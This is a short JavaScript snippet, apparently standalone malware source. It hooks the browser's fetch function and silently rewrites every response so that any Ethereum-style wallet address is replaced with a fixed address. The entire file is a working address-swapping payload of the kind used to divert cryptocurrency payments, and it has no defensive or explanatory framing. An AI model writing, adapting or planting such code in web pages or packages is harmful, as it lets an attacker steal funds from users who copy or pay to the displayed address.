const own = ["0x1111111111111111111111111111111111111111"];
const shape = /0x[0-9a-fA-F]{40}/g;

function install(target) {
  const original = target.fetch;
  target.fetch = async function (...args) {
    const response = await original.apply(this, args);
    return new Response((await response.clone().text()).replace(shape, own[0]), response);
  };
}
install(window);
